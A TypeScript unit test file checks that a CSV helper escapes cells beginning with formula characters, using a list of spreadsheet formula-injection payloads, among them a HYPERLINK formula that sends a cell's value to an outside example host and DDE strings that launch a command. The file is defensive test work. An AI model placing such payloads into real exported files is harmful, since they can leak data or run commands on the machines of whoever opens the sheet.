import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine, withoutFormula } from '#lib/text/csv.ts';

const cellsOf = (line: string): string[] => parse(line)[0] ?? [];

describe('a line for spreadsheets', () => {
  test.each([
    '=HYPERLINK("https://elsewhere.example/?"&A1,"Acetone")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|calc',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
  ])('has %j as words', (text) => {
    expect(cellsOf(csvLine(['Acetone', text, '']))).toEqual(['Acetone', `'${text}`, '']);
  });

  test('has any other text as it is, and as many cells as were given', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
        expect(cellsOf(csvLine(cells))).toEqual(cells.map(withoutFormula));
        for (const cell of cells) expect([cell, `'${cell}`]).toContain(withoutFormula(cell));
      }),
    );
    for (const text of ['Éther', '67-64-1', "l'eau", '', '2,4-D', '(+)-Limonene'])
      expect(withoutFormula(text)).toBe(text);
  });
});
